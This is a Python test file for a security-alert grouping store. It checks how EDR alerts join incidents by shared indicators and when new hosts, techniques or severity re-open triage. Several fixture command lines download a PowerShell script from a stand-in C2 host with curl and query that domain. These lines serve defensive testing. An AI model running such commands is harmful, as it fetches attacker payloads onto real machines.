"""Grouping that cannot hide an attack: how alerts join open incidents, and news that re-opens triage."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from sqlalchemy import create_engine, update
from sqlalchemy.orm import Session

from flows.models import Alert
from flows.store import GroupingRules, IncidentStatus, IncomingAlert, Outcome, Store
from flows.store._schema import Base, IncidentRow

RULES = GroupingRules()


def _doc(
    uid: str,
    host: str = "WS-1",
    rule: str = "edr-rule-1",
    cmd: str | None = None,
    observables: tuple[str, ...] = (),
    severity: int = 3,
    techniques: tuple[str, ...] = (),
) -> dict[str, Any]:
    finding: dict[str, Any] = {"uid": uid, "title": f"Finding {rule}", "analytic": {"uid": rule}}
    if techniques:
        finding["attacks"] = [{"technique": {"uid": t}} for t in techniques]
    return {
        "class_uid": 2004,
        "severity_id": severity,
        "metadata": {"tenant_uid": "demo", "product": {"name": "Demo EDR"}, "uid": uid},
        "finding_info": finding,
        "device": {"hostname": host},
        "evidences": [{"process": {"name": "cmd.exe", "cmd_line": cmd}}] if cmd else [],
        "observables": [{"name": "dst", "type_id": 1, "value": value} for value in observables],
    }


def _ingest(store: Store, *documents: dict[str, Any]) -> list[tuple[Outcome, str]]:
    items = [IncomingAlert(Alert.model_validate(d), d) for d in documents]
    return [(a.outcome, a.incident_id) for a in store.ingest(items, RULES)]


def _open(store: Store, status: IncidentStatus, **doc: Any) -> str:
    """An incident whose run claimed it (TRIAGING), or that then reached ``status``."""
    [(_, incident_id)] = _ingest(store, _doc("first", **doc))
    assert store.claim(incident_id, "run-1")
    if status is IncidentStatus.CONTAINED:  # only a response contains an incident
        store.set_status(incident_id, IncidentStatus.RESPONDING, "containment started", "test")
    if status is not IncidentStatus.TRIAGING:
        store.set_status(incident_id, status, f"now {status}", "test")
    return incident_id


def _reason(store: Store, incident_id: str) -> str | None:
    with Session(store.engine) as session:
        return session.get_one(IncidentRow, incident_id).retriage_reason


def _messages(store: Store, incident_id: str) -> list[str]:
    view = store.incident(incident_id)
    assert view is not None
    return [t.message for t in view.timeline]


# -- joining ---------------------------------------------------------------------------------------------


def test_a_single_command_line_value_does_not_join_an_incident(store: Store) -> None:
    [(_, first)] = _ingest(store, _doc("a", observables=("c2.evil-domain.example",)))

    [(outcome, incident_id)] = _ingest(
        store, _doc("b", host="WS-2", rule="other", cmd="nslookup c2.evil-domain.example")
    )

    assert incident_id != first
    assert outcome is Outcome.LINKED  # its own run; the relation is kept for analysts
    view = store.incident(incident_id)
    assert view is not None and view.related_incident_id == first


def test_two_command_line_values_join_an_incident(store: Store) -> None:
    [(_, first)] = _ingest(
        store, _doc("a", cmd="curl http://45.33.32.156/a.ps1 && nslookup c2.evil-domain.example")
    )

    [(outcome, incident_id)] = _ingest(
        store, _doc("b", host="WS-2", rule="other", cmd="ping 45.33.32.156 & ping c2.evil-domain.example")
    )

    assert (outcome, incident_id) == (Outcome.ATTACHED, first)


def test_one_command_line_url_and_its_host_count_as_one_value(store: Store) -> None:
    [(_, first)] = _ingest(store, _doc("a", cmd="curl http://c2.evil-domain.example/a.ps1"))

    [(outcome, incident_id)] = _ingest(
        store, _doc("b", host="WS-2", rule="other", cmd="curl http://c2.evil-domain.example/a.ps1")
    )

    assert incident_id != first and outcome is Outcome.LINKED


def test_one_observable_joins_an_incident(store: Store) -> None:
    [(_, first)] = _ingest(store, _doc("a", cmd="nslookup c2.evil-domain.example"))

    [(outcome, incident_id)] = _ingest(
        store, _doc("b", host="WS-2", rule="other", observables=("c2.evil-domain.example",))
    )

    assert (outcome, incident_id) == (Outcome.ATTACHED, first)


def test_shared_ubiquitous_or_private_values_relate_nothing(store: Store) -> None:
    common = ("www.google.com", "8.8.8.8", "10.0.0.5", "192.0.2.44")
    [(_, first)] = _ingest(store, _doc("a", observables=common))

    [(outcome, incident_id)] = _ingest(store, _doc("b", host="WS-2", rule="other", observables=common))

    assert incident_id != first and outcome is Outcome.CREATED


# -- news for an incident whose run is pending: nothing more -------------------------------------------------


def test_news_for_an_incident_not_yet_claimed_needs_nothing(store: Store) -> None:
    [(_, first)] = _ingest(store, _doc("a", observables=("c2.evil-domain.example",)))

    [(outcome, incident_id)] = _ingest(
        store, _doc("b", host="WS-2", observables=("c2.evil-domain.example",), severity=5)
    )

    assert (outcome, incident_id) == (Outcome.ATTACHED, first)
    assert _reason(store, first) is None  # the pending run reads every alert
    view = store.incident(first)
    assert view is not None and view.status == IncidentStatus.NEW and view.round == 1
    assert view.severity_id == 5


# -- news for an incident awaiting an analyst: a new round now ----------------------------------------------


def test_a_new_host_on_an_incident_awaiting_approval_starts_a_new_round(store: Store) -> None:
    incident_id = _open(store, IncidentStatus.AWAITING_APPROVAL, observables=("c2.evil-domain.example",))

    [(outcome, joined)] = _ingest(store, _doc("b", host="WS-2", observables=("c2.evil-domain.example",)))

    assert (outcome, joined) == (Outcome.REOPENED, incident_id)
    view = store.incident(incident_id)
    assert view is not None
    assert (view.status, view.round, view.flow_run_id) == (IncidentStatus.REOPENED, 2, None)
    assert "re-triage: new host WS-2" in _messages(store, incident_id)
    assert store.undispatched() == [incident_id]  # the sweeper starts it if the dispatch fails
    assert store.claim(incident_id, "run-2")


def test_a_batch_starts_at_most_one_round(store: Store) -> None:
    incident_id = _open(store, IncidentStatus.AWAITING_APPROVAL, observables=("c2.evil-domain.example",))

    results = _ingest(
        store,
        *(_doc(f"b{n}", host=f"WS-{n + 2}", observables=("c2.evil-domain.example",)) for n in range(5)),
    )

    assert [o for o, _ in results] == [Outcome.REOPENED] + [Outcome.ATTACHED] * 4
    view = store.incident(incident_id)
    assert view is not None and view.round == 2 and len(view.hosts) == 6


def test_nothing_new_starts_no_round(store: Store) -> None:
    incident_id = _open(store, IncidentStatus.AWAITING_APPROVAL, observables=("c2.evil-domain.example",))

    results = _ingest(store, *(_doc(f"s{n}", observables=("c2.evil-domain.example",)) for n in range(20)))

    assert {o for o, _ in results} == {Outcome.ATTACHED}
    view = store.incident(incident_id)
    assert view is not None and view.status == IncidentStatus.AWAITING_APPROVAL and view.round == 1


# -- news while a run may be in flight: recorded, taken when the run ends ---------------------------------


def test_a_new_host_on_a_triaging_incident_is_recorded_for_the_run(store: Store) -> None:
    incident_id = _open(store, IncidentStatus.TRIAGING, observables=("c2.evil-domain.example",))

    [(outcome, joined)] = _ingest(
        store,
        _doc("b", host="WS-2", observables=("c2.evil-domain.example",), techniques=("T1059.001",)),
    )

    assert (outcome, joined) == (Outcome.ATTACHED, incident_id)
    view = store.incident(incident_id)
    assert view is not None and view.status == IncidentStatus.TRIAGING and view.round == 1
    assert _reason(store, incident_id) == "new host WS-2, new technique T1059.001"
    assert any(
        m.startswith("re-triage: new host WS-2, new technique T1059.001")
        for m in _messages(store, incident_id)
    )

    assert store.end_run(incident_id) == "new host WS-2, new technique T1059.001"

    view = store.incident(incident_id)
    assert view is not None
    assert (view.status, view.round, view.flow_run_id) == (IncidentStatus.REOPENED, 2, None)
    assert "new response round: new host WS-2, new technique T1059.001" in _messages(store, incident_id)
    assert _reason(store, incident_id) is None
    assert store.end_run(incident_id) is None
    assert store.undispatched() == [incident_id]


def test_end_run_without_a_request_changes_nothing(store: Store) -> None:
    incident_id = _open(store, IncidentStatus.CONTAINED)

    assert store.end_run(incident_id) is None
    assert store.end_run("no-such-incident") is None
    view = store.incident(incident_id)
    assert view is not None and view.status == IncidentStatus.CONTAINED and view.round == 1


def test_each_kind_of_news_is_named(store: Store) -> None:
    incident_id = _open(store, IncidentStatus.RESPONDING, observables=("c2.evil-domain.example",))

    _ingest(
        store,
        _doc(
            "b",
            observables=("c2.evil-domain.example", "second-c2.evil-domain.example"),
            severity=5,
            techniques=("T1486",),
            cmd="ping third.evil-domain.example",  # a command-line value is no news
        ),
    )

    assert _reason(store, incident_id) == (
        "new indicator domain second-c2[.]evil-domain[.]example, new technique T1486, "
        "severity raised from 3 to 5"
    )
    view = store.incident(incident_id)
    assert view is not None and view.severity_id == 5


def test_a_batch_records_one_request_and_later_news_adds_to_it(store: Store) -> None:
    incident_id = _open(store, IncidentStatus.CONTAINED, observables=("c2.evil-domain.example",))

    _ingest(
        store, *(_doc(f"b{n}", host=f"WS-{n + 2}", observables=("c2.evil-domain.example",)) for n in range(5))
    )
    _ingest(store, _doc("c", observables=("c2.evil-domain.example",), techniques=("T1021.002",)))

    assert _reason(store, incident_id) == (
        "new host WS-2, new host WS-3, new host WS-4, 2 more hosts; new technique T1021.002"
    )
    retriage = [m for m in _messages(store, incident_id) if m.startswith("re-triage")]
    assert len(retriage) == 2


def test_a_storm_on_a_running_incident_records_nothing(store: Store) -> None:
    incident_id = _open(
        store, IncidentStatus.TRIAGING, observables=("c2.evil-domain.example",), techniques=("T1059",)
    )

    results = _ingest(
        store,
        *(_doc(f"s{n}", observables=("c2.evil-domain.example",), techniques=("T1059",)) for n in range(1000)),
    )

    assert {(o, i) for o, i in results} == {(Outcome.ATTACHED, incident_id)}
    assert _reason(store, incident_id) is None


def test_a_lower_severity_is_no_news(store: Store) -> None:
    incident_id = _open(store, IncidentStatus.TRIAGING, severity=4)

    _ingest(store, _doc("b", severity=2))
    _ingest(store, _doc("c", severity=99))  # OCSF "Other" is not a rank

    assert _reason(store, incident_id) is None


# -- claims ------------------------------------------------------------------------------------------------


def _request_then_status(store: Store, status: IncidentStatus) -> str:
    """A request recorded while TRIAGING, then the incident moved on without taking it."""
    incident_id = _open(store, IncidentStatus.TRIAGING, observables=("c2.evil-domain.example",))
    _ingest(store, _doc("b", host="WS-2", observables=("c2.evil-domain.example",)))
    with Session(store.engine) as session, session.begin():
        session.execute(update(IncidentRow).where(IncidentRow.id == incident_id).values(status=status))
    assert _reason(store, incident_id) == "new host WS-2"
    return incident_id


def test_a_new_run_claiming_the_incident_answers_the_request(store: Store) -> None:
    incident_id = _request_then_status(store, IncidentStatus.REOPENED)

    assert store.claim(incident_id, "run-2")

    assert _reason(store, incident_id) is None
    assert store.end_run(incident_id) is None


def test_a_retry_of_the_same_run_keeps_the_request(store: Store) -> None:
    incident_id = _request_then_status(store, IncidentStatus.RESPONDING)

    assert store.claim(incident_id, "run-1")

    assert _reason(store, incident_id) == "new host WS-2"


def test_a_related_alert_reopening_a_closed_incident_answers_the_request(store: Store) -> None:
    incident_id = _request_then_status(store, IncidentStatus.CLOSED)

    [(outcome, joined)] = _ingest(store, _doc("c"))

    assert (outcome, joined) == (Outcome.REOPENED, incident_id)
    assert _reason(store, incident_id) is None


# -- upgrades --------------------------------------------------------------------------------------------


def test_a_store_created_before_re_triage_gains_its_columns(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'old.db'}"
    old = create_engine(url)
    Base.metadata.create_all(old)
    with old.begin() as connection:  # as an older Garrison left it
        connection.exec_driver_sql("ALTER TABLE incidents DROP COLUMN retriage_reason")
        connection.exec_driver_sql("ALTER TABLE incidents DROP COLUMN techniques")
    old.dispose()

    store = Store.open(url)
    incident_id = _open(store, IncidentStatus.TRIAGING, observables=("c2.evil-domain.example",))
    _ingest(store, _doc("b", host="WS-2", observables=("c2.evil-domain.example",)))

    assert store.end_run(incident_id) == "new host WS-2"


# -- runs that have ended ----------------------------------------------------------------------------


def _ended(store: Store, incident_id: str, ago: timedelta) -> None:
    assert store.end_run(incident_id) is None
    with Session(store.engine) as session, session.begin():
        session.execute(
            update(IncidentRow)
            .where(IncidentRow.id == incident_id)
            .values(run_ended_at=datetime.now(UTC) - ago)
        )


C2 = ("c2.evil-domain.example",)


def test_news_for_a_contained_incident_whose_run_ended_starts_a_round_at_once(store: Store) -> None:
    incident_id = _open(store, IncidentStatus.CONTAINED, observables=C2)
    _ended(store, incident_id, timedelta(seconds=5))

    [(outcome, joined)] = _ingest(store, _doc("b", host="WS-2", observables=C2))

    assert (outcome, joined) == (Outcome.REOPENED, incident_id)  # nobody in flight would take a request
    assert _reason(store, incident_id) is None
    assert "re-triage: new host WS-2" in _messages(store, incident_id)


def test_the_same_detection_soon_after_containment_is_not_a_new_round(store: Store) -> None:
    incident_id = _open(store, IncidentStatus.CONTAINED)
    _ended(store, incident_id, timedelta(minutes=5))

    outcomes = _ingest(store, *(_doc(f"again-{n}") for n in range(50)))

    assert {o for o, _ in outcomes} == {Outcome.ATTACHED}  # blocked C2 attempts keep the sensor busy


def test_the_same_detection_a_window_after_containment_is_a_new_round(store: Store) -> None:
    incident_id = _open(store, IncidentStatus.CONTAINED)
    _ended(store, incident_id, RULES.window + timedelta(minutes=1))

    [(outcome, _), (second, _)] = _ingest(store, _doc("again-1"), _doc("again-2"))

    assert (outcome, second) == (Outcome.REOPENED, Outcome.ATTACHED)  # one round per batch
    assert any("recurred after containment" in m for m in _messages(store, incident_id))


def test_a_claim_marks_the_run_in_flight_again(store: Store) -> None:
    incident_id = _open(store, IncidentStatus.CONTAINED, observables=C2)
    _ended(store, incident_id, timedelta(seconds=5))
    [(outcome, _)] = _ingest(store, _doc("b", host="WS-2", observables=C2))
    assert outcome is Outcome.REOPENED and store.claim(incident_id, "run-2")

    [(outcome, _)] = _ingest(store, _doc("c", host="WS-3", observables=C2))

    assert outcome is Outcome.ATTACHED and _reason(store, incident_id) == "new host WS-3"
